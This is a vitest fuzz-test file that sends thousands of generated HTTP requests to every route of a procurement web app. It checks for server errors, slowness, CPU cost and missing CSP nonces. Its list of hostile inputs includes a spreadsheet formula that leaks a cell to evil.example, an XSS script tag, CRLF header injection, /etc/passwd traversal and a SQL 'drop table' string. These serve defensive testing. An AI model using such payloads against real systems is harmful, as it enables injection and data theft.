import { readFileSync, readdirSync } from "node:fs";
import { fileURLToPath } from "node:url";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createDb, type Db } from "../../db/client";
import { createSession, markSessionTwoFactorVerified } from "../../app/domain/accounts/sessions.server";
import { serializeSessionCookie } from "../../app/http/auth.server";
import { serverTestsUnavailable, startServer, type LogLine, type RunningServer } from "../support/server";
import { API_OPERATIONS } from "../../app/api/operations";
import { createApiKey } from "../../app/domain/api-keys/api-keys.server";
import { API_SCOPES } from "../../app/domain/api-keys/scopes";

// Issue 12: generated requests (fast-check, seeded) against the built server over real HTTP, one at a time so
// each request's CPU time is its own (the server logs it). Every route with a loader or an action is asked,
// as every kind of user, with hostile paths, queries, methods, headers and bodies. Fails on any 5xx, any
// answer slower than 2 s, any request that costs the server more CPU than the bound, any response without
// the CSP, and any page with a script that lacks the response's nonce.

const REQUESTS = Number(process.env.FUZZ_REQUESTS ?? 5_000);
const SEED = Number(process.env.FUZZ_SEED ?? 20261201);
/** CPU per request: the worst legitimate page (a refused 30-line RFQ editor) stays below it. */
export const CPU_BOUND_MS = 200;
const WALL_BOUND_MS = 2_000;

const unavailable = serverTestsUnavailable();
if (unavailable) console.log(`[fuzz] skipped: ${unavailable}`);

const ROUTES_DIR = fileURLToPath(new URL("../../app/routes/", import.meta.url));
const DOMAIN_DIR = fileURLToPath(new URL("../../app/domain/", import.meta.url));

interface RouteInfo {
  /** The route file, or "api:<operationId>" for an API v1 operation. */
  file: string;
  template: string;
  hasAction: boolean;
  hasLoader: boolean;
  intents: string[];
  fieldNames: string[];
  /** An API v1 operation: its method and example body (mutated by the generator). */
  api?: { method: string; example: unknown };
}

/** Every API v1 operation as a route of its own (issue 21): `/api/v1/rfqs/:rfqId/bids` and so on. */
function apiRoutes(): RouteInfo[] {
  return API_OPERATIONS.map((o) => ({
    file: `api:${o.operationId}`,
    template: `/api/v1${o.path.replace(/\{(\w+)\}/g, ":$1")}`,
    hasAction: o.method !== "get",
    hasLoader: o.method === "get",
    intents: [],
    fieldNames: [],
    api: { method: o.method.toUpperCase(), example: o.example ?? {} },
  }));
}

/** Remix flat-route file name → URL template ("rfqs.$id.compare[.]csv" → "/rfqs/:id/compare.csv"). */
function templateOf(file: string): string {
  const name = file.replace(/\.tsx$/, "");
  if (name === "$") return "/*";
  const segments = name
    .replace(/\[\.\]/g, "\u0000")
    .split(".")
    .map((s) => s.replace(/\u0000/g, "."))
    .filter((s) => s !== "_index")
    .map((s) => (s.endsWith("_") ? s.slice(0, -1) : s))
    .map((s) => (s.startsWith("$") ? `:${s.slice(1)}` : s));
  return `/${segments.join("/")}`;
}

function routesOfApp(): RouteInfo[] {
  return readdirSync(ROUTES_DIR)
    .filter((f) => f.endsWith(".tsx"))
    .map((file) => {
      const source = readFileSync(`${ROUTES_DIR}${file}`, "utf8");
      const intents = [...source.matchAll(/intent(?:"\)|\s*===?\s*|: )"([a-z_-]+)"|name="intent" value="([a-z_-]+)"/g)].map((m) => m[1] ?? m[2]!).filter(Boolean);
      const fieldNames = [...source.matchAll(/name="([a-zA-Z.[\]0-9]+)"/g)].map((m) => m[1]!);
      return {
        file,
        template: templateOf(file),
        hasAction: /export const action\b/.test(source),
        hasLoader: /export (const loader|async function loader|function loader)\b/.test(source),
        intents: [...new Set(intents)],
        fieldNames: [...new Set(fieldNames)],
      };
    })
    .filter((r) => r.hasAction || r.hasLoader);
}

/** Every field name a form schema knows (keys of the zod objects in app/domain/**\/schemas.ts). */
function schemaFieldNames(): string[] {
  const names = new Set<string>();
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      if (entry.isDirectory()) walk(`${dir}${entry.name}/`);
      else if (entry.name === "schemas.ts") {
        for (const m of readFileSync(`${dir}${entry.name}`, "utf8").matchAll(/^\s{2,6}([a-z][a-zA-Z]+):/gm)) names.add(m[1]!);
      }
    }
  };
  walk(DOMAIN_DIR);
  return [...names];
}

interface World {
  cookies: Record<string, string>;
  /** API keys of demo organizations, by name (sent as Authorization: Bearer). */
  tokens: Record<string, string>;
  ids: Record<string, string[]>;
}

const HOSTILE_STRINGS = [
  "",
  " ",
  "0",
  "-1",
  "1e309",
  "99999999999999999999999",
  "1.5",
  "NaN",
  "Rp 1.250.000",
  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
  "<script>alert(1)</script>",
  "\u0000",
  "\r\nSet-Cookie: x=1",
  "🙂🔩",
  "/\t/evil.example/x",
  "//evil.example",
  "../../etc/passwd",
  "%00",
  "'; drop table users; --",
  "\"NEAR(",
  "a".repeat(5_000),
  "ü".repeat(300),
  "2026-02-30",
  "2026-12-01T10:00",
  "true",
  "on",
];

function arbitraries(routes: RouteInfo[], world: World, vocabulary: string[]) {
  const id = (kind: string) =>
    fc.oneof(
      { weight: 6, arbitrary: fc.constantFrom(...(world.ids[kind]?.length ? world.ids[kind]! : ["1"])) },
      { weight: 1, arbitrary: fc.constantFrom("0", "-1", "999999", "1e20", "abc", "%F0%9F%99%82", "..%2F..%2F", "%00", "1;2") },
      { weight: 1, arbitrary: fc.integer({ min: 1, max: 200 }).map(String) },
    );
  const value = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    { weight: 3, arbitrary: fc.integer({ min: -10, max: 100_000 }).map(String) },
    { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 30 }) },
    { weight: 1, arbitrary: fc.constantFrom(...Object.values(world.ids).flat().slice(0, 50)) },
  );
  const listName = fc
    .tuple(
      fc.constantFrom("lines", "allocations", "certificates", "products", "capacities", "schedules", "lines[0].shares", "requiredCertificates", "supplierIds"),
      fc.oneof({ weight: 5, arbitrary: fc.integer({ min: 0, max: 5 }) }, { weight: 1, arbitrary: fc.constantFrom(30, 31, 99, 100, 101, 600, 99_999, 1e7) }),
      fc.constantFrom("quantity", "unitPrice", "rfqLineId", "bidId", "memberId", "name", "number", "typeCode", "validUntil", "file", "partName", "unit"),
    )
    .map(([list, i, field]) => `${list}[${i}].${field}`);
  const fieldName = fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom(...vocabulary) },
    { weight: 2, arbitrary: listName },
    { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
  );
  const fields = fc.array(fc.tuple(fieldName, value), { maxLength: 14 });

  const route = fc.constantFrom(...routes);
  const path = (r: RouteInfo) =>
    fc
      .tuple(...r.template.split("/").filter(Boolean).map((segment) => {
        if (segment === "*") return fc.constantFrom("no-such-page", "a/b/c", "%F0%9F%99%82", "..%2F..%2Fetc");
        if (segment === ":id") return id(r.template.startsWith("/orders") ? "orders" : r.template.startsWith("/rfqs") ? "rfqs" : r.template.startsWith("/files") ? "files" : r.template.startsWith("/admin") ? "versions" : "rfqs");
        if (segment === ":fileId") return id("rfqFiles");
        if (segment === ":invoiceId") return id("invoices");
        if (segment === ":versionId") return id("versions");
        if (segment === ":slug") return id("slugs");
        if (segment === ":rfqId") return id("rfqs");
        if (segment === ":orderId") return id("orders");
        if (/^:\w+Id$/.test(segment)) return id("any");
        if (segment === ":token") return fc.constantFrom("abc", "a".repeat(48), "%00", "x".repeat(500));
        return fc.constant(segment);
      }))
      .map((parts) => `/${parts.join("/")}`);
  const query = fc.array(fc.tuple(fc.constantFrom("redirectTo", "q", "page", "process", "material", "certificate", "province", "cluster", "minTkdn", "minCapacity", "status", "side", "fill", "invite", "submitted", "kind", "required", "reset"), value), { maxLength: 4 });
  const identity = fc.constantFrom(...Object.keys(world.cookies), "anonymous", "garbage");
  const apiIdentity = fc.constantFrom(...Object.keys(world.tokens), "anonymous", "garbage");
  /** An API body: the operation's example with some leaves replaced by hostile values, or dropped. */
  const mutate = (example: unknown): fc.Arbitrary<unknown> => {
    if (Array.isArray(example)) return fc.oneof({ weight: 4, arbitrary: fc.tuple(...example.map(mutate)) }, { weight: 1, arbitrary: fc.constant([]) }, { weight: 1, arbitrary: fc.array(value, { maxLength: 200 }) });
    if (example && typeof example === "object") {
      const entries = Object.entries(example);
      if (entries.length === 0) return fc.oneof(fc.constant({}), fc.dictionary(fc.constantFrom(...vocabulary), value, { maxKeys: 5 }));
      return fc.tuple(...entries.map(([k, v]) => fc.option(mutate(v), { nil: undefined, freq: 8 }).map((m) => [k, m] as const))).map((kv) => Object.fromEntries(kv.filter(([, m]) => m !== undefined)));
    }
    return fc.oneof({ weight: 5, arbitrary: fc.constant(example) }, { weight: 2, arbitrary: value }, { weight: 1, arbitrary: fc.constantFrom(null, true, -1, 1e308, 0.5, [], {}) });
  };
  const siteHeaders = fc.oneof(
    { weight: 12, arbitrary: fc.constant<Record<string, string>>({ "Sec-Fetch-Site": "same-origin" }) },
    { weight: 2, arbitrary: fc.constant<Record<string, string>>({}) },
    { weight: 1, arbitrary: fc.constantFrom<Record<string, string>>({ "Sec-Fetch-Site": "cross-site" }, { Origin: "https://evil.example" }, { Origin: "null" }, { Origin: "%%" }) },
  );
  const bodyKind = fc.constantFrom("urlencoded", "urlencoded", "urlencoded", "urlencoded", "urlencoded", "urlencoded", "multipart", "multipart", "broken-multipart", "json", "text", "none");
  const method = fc.constantFrom("GET", "GET", "GET", "GET", "GET", "POST", "POST", "POST", "POST", "HEAD", "PUT", "DELETE", "PATCH");

  return route.chain((r) =>
    fc.record({
      route: fc.constant(r),
      path: path(r),
      query,
      method: r.api ? fc.oneof({ weight: 6, arbitrary: fc.constant(r.api.method) }, { weight: 1, arbitrary: method }) : r.hasAction ? method : fc.constantFrom("GET", "GET", "HEAD", "POST"),
      identity: r.api ? apiIdentity : identity,
      siteHeaders,
      bodyKind: r.api ? fc.constantFrom("api-json", "api-json", "api-json", "api-json", "json", "urlencoded", "text", "none") : bodyKind,
      fields,
      apiBody: r.api ? mutate(r.api.example) : fc.constant(undefined),
      idempotencyKey: fc.option(fc.constantFrom("fuzz-1", "fuzz-2", " ", "x".repeat(300), "\u00e9"), { nil: undefined }),
      intent: r.intents.length ? fc.option(fc.constantFrom(...r.intents), { nil: undefined }) : fc.constant(undefined),
    }),
  );
}

type Generated = ReturnType<typeof arbitraries> extends fc.Arbitrary<infer T> ? T : never;

function toRequest(g: Generated, world: World, base: string): { url: string; init: RequestInit } {
  const url = new URL(g.path, base);
  for (const [k, v] of g.query) url.searchParams.append(k, v);
  const headers: Record<string, string> = { ...g.siteHeaders };
  if (g.route.api) {
    if (g.identity === "garbage") headers.Authorization = "Bearer psk_aaaaaaaaaaaaaaaa_bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
    else if (g.identity !== "anonymous") headers.Authorization = `Bearer ${world.tokens[g.identity]}`;
    if (g.idempotencyKey !== undefined) headers["Idempotency-Key"] = g.idempotencyKey;
  } else if (g.identity === "garbage") headers.Cookie = "pasok_session=%22zzzz.yyyy%22; other=%FF";
  else if (g.identity !== "anonymous") headers.Cookie = world.cookies[g.identity]!;
  const init: RequestInit = { method: g.method, headers, redirect: "manual" };
  if (g.method === "GET" || g.method === "HEAD") return { url: url.toString(), init };
  const entries: [string, string][] = [...(g.intent ? [["intent", g.intent] as [string, string]] : []), ...g.fields];
  switch (g.bodyKind) {
    case "urlencoded":
      headers["Content-Type"] = "application/x-www-form-urlencoded";
      init.body = new URLSearchParams(entries).toString();
      break;
    case "multipart": {
      const data = new FormData();
      for (const [k, v] of entries) data.append(k, v);
      if (entries.length % 3 === 0) data.append("drawing", new Blob([new Uint8Array([0x25, 0x50, 0x44, 0x46, 0x2d])], { type: "application/pdf" }), "gambar.pdf");
      init.body = data;
      break;
    }
    case "broken-multipart":
      headers["Content-Type"] = "multipart/form-data; boundary=----pasok";
      init.body = `------pasok\r\nContent-Disposition: form-data; name="${entries[0]?.[0] ?? "a"}"\r\n\r\n${entries[0]?.[1] ?? ""}`;
      break;
    case "json":
      headers["Content-Type"] = "application/json";
      init.body = JSON.stringify(Object.fromEntries(entries));
      break;
    case "api-json":
      headers["Content-Type"] = "application/json";
      headers["If-Match"] = "*";
      init.body = JSON.stringify(g.apiBody ?? {});
      break;
    case "text":
      headers["Content-Type"] = "text/plain";
      init.body = entries.map(([k, v]) => `${k}=${v}`).join("\n");
      break;
    case "none":
      init.body = entries.length ? entries.map(([k, v]) => `${k}=${v}`).join("&") : null;
      break;
  }
  return { url: url.toString(), init };
}

describe.skipIf(unavailable)(`fuzzing every route over HTTP (${REQUESTS} requests, seed ${SEED})`, () => {
  let server: RunningServer;
  let db: Db;
  const world: World = { cookies: {}, tokens: {}, ids: {} };

  async function refreshCookies() {
    for (const email of ["tpr@demo.pasok.id", "kai@demo.pasok.id", "kbj@demo.pasok.id", "ceper-cor@demo.pasok.id", "takaru-presisi@demo.pasok.id", "admin@demo.pasok.id"]) {
      const user = await db.selectFrom("users").select("id").where("email", "=", email).executeTakeFirstOrThrow();
      const membership = await db.selectFrom("memberships").select("organization_id").where("user_id", "=", user.id).executeTakeFirst();
      const { token, session } = await createSession(db, { userId: user.id, organizationId: membership?.organization_id ?? null, now: new Date() });
      await markSessionTwoFactorVerified(db, session.id);
      world.cookies[email.split("@")[0]!] = (await serializeSessionCookie(new Request("http://127.0.0.1/"), token)).split(";")[0]!;
    }
  }

  beforeAll(async () => {
    server = await startServer({ name: "fuzz" });
    db = createDb(server.database);
    await refreshCookies();
    const pick = async (table: "rfqs" | "orders" | "invoices" | "listing_files" | "rfq_files" | "listing_versions") =>
      (await db.selectFrom(table).select("id").limit(20).execute()).map((r: { id: number }) => String(r.id));
    world.ids = {
      rfqs: await pick("rfqs"),
      orders: await pick("orders"),
      invoices: await pick("invoices"),
      files: await pick("listing_files"),
      rfqFiles: await pick("rfq_files"),
      versions: await pick("listing_versions"),
      slugs: (await db.selectFrom("organizations").select("slug").limit(20).execute()).map((r) => r.slug),
      any: ["1", "2", "3", "5", "8", "13"],
    };
    // API v1 keys with every scope, for a buyer, a supplier and a cooperative (their owners make them).
    for (const slug of ["pt-tpr-indonesia", "pt-kereta-api-indonesia-persero", "koperasi-batur-jaya"]) {
      const org = await db.selectFrom("organizations").select("id").where("slug", "=", slug).executeTakeFirst();
      if (!org) continue;
      const owner = await db.selectFrom("memberships").select("user_id").where("organization_id", "=", org.id).where("role", "=", "owner").executeTakeFirstOrThrow();
      const key = await createApiKey(db, { organizationId: org.id, actorUserId: owner.user_id, input: { name: `fuzz ${slug}`, role: "owner", scopes: [...API_SCOPES] }, now: new Date() });
      world.tokens[`key:${slug}`] = key.token;
    }
  }, 120_000);

  afterAll(async () => {
    await db?.destroy();
    await server?.stop();
  });

  it("answers every generated request below 500, within 2 s, within the CPU bound", { timeout: 1_500_000 }, async () => {
    const routes = [...routesOfApp(), ...apiRoutes()];
    expect(routes.length).toBeGreaterThanOrEqual(30);
    const vocabulary = [...new Set([...schemaFieldNames(), ...routes.flatMap((r) => r.fieldNames)])];
    const samples = fc.sample(arbitraries(routes, world, vocabulary), { numRuns: REQUESTS, seed: SEED });

    const failures: string[] = [];
    const cpu: number[] = [];
    const seenRoutes = new Set<string>();
    const statuses = new Map<number, number>();
    let retried = 0;
    const slowest: { cpuMs: number; what: string }[] = [];
    const started = Date.now();
    for (let i = 0; i < samples.length; i++) {
      if (i > 0 && i % 250 === 0) await refreshCookies(); // a fuzzed logout ends sessions
      const g = samples[i]!;
      const { url, init } = toRequest(g, world, server.url);
      const t0 = performance.now();
      let res: Response;
      let body = "";
      try {
        res = await fetch(url, init);
        body = await res.text();
      } catch (error) {
        failures.push(`#${i} ${g.method} ${url}: no answer (${(error as Error).message})`);
        continue;
      }
      const wall = performance.now() - t0;
      seenRoutes.add(g.route.file);
      statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
      const id = res.headers.get("X-Request-Id");
      const line: LogLine | undefined = id ? await server.waitForLog((l) => l.msg === "request" && l.requestId === id, 5_000).catch(() => undefined) : undefined;
      let cpuMs = line?.cpuMs ?? Number.NaN;
      // The process's CPU time includes whatever garbage collection ran meanwhile; a request over the bound
      // is asked twice more, and only a cost that repeats (the smallest of the three) counts.
      for (let again = 0; again < 2 && !(cpuMs <= CPU_BOUND_MS); again++) {
        const retry = await fetch(url, toRequest(g, world, server.url).init);
        await retry.arrayBuffer();
        const retryId = retry.headers.get("X-Request-Id");
        const retryLine = retryId ? await server.waitForLog((l) => l.msg === "request" && l.requestId === retryId, 5_000).catch(() => undefined) : undefined;
        retried++;
        cpuMs = Math.min(cpuMs, retryLine?.cpuMs ?? Number.NaN);
      }
      cpu.push(cpuMs);
      slowest.push({ cpuMs, what: `${g.method} ${url.slice(0, 120)} as ${g.identity} (${g.bodyKind}) → ${res.status}` });
      slowest.sort((a, b) => b.cpuMs - a.cpuMs).splice(3);
      const what = `#${i} ${g.method} ${url.slice(0, 160)} as ${g.identity} (${g.bodyKind}) → ${res.status}`;
      if (res.status >= 500) failures.push(`${what}: server error`);
      const csp = res.headers.get("Content-Security-Policy") ?? "";
      if (!/script-src 'self' 'nonce-/.test(csp)) failures.push(`${what}: no CSP`);
      if (res.headers.get("Content-Type")?.startsWith("text/html") && body) {
        const nonce = /'nonce-([^']+)'/.exec(csp)?.[1];
        for (const tag of body.match(/<script\b[^>]*>/g) ?? []) if (!tag.includes(`nonce="${nonce}"`)) failures.push(`${what}: a script without the nonce`);
      }
      if (wall > WALL_BOUND_MS) failures.push(`${what}: ${wall.toFixed(0)} ms`);
      if (!(cpuMs <= CPU_BOUND_MS)) failures.push(`${what}: ${cpuMs} ms CPU`);
      if (failures.length > 20) break;
    }
    const sorted = cpu.filter(Number.isFinite).sort((a, b) => a - b);
    const q = (p: number) => sorted[Math.min(sorted.length - 1, Math.floor(p * sorted.length))] ?? 0;
    console.log(
      `[fuzz] ${samples.length} requests over ${seenRoutes.size}/${routes.length} routes in ${((Date.now() - started) / 1000).toFixed(0)} s; ` +
        `CPU per request p50 ${q(0.5)} ms, p99 ${q(0.99)} ms, max ${sorted.at(-1)} ms (bound ${CPU_BOUND_MS}; ${retried} repeats of requests over it); statuses ${JSON.stringify(Object.fromEntries([...statuses].sort()))}`,
    );
    console.log(`[fuzz] costliest: ${slowest.map((x) => `${x.cpuMs} ms ${x.what}`).join(" | ")}`);
    if (failures.length) console.log("[fuzz] failures", failures.slice(0, 8));
    expect(failures).toEqual([]);
    expect(seenRoutes.size).toBe(routes.length);
    expect(server.logs.filter((l) => l.msg === "unhandled")).toEqual([]);
  });
});
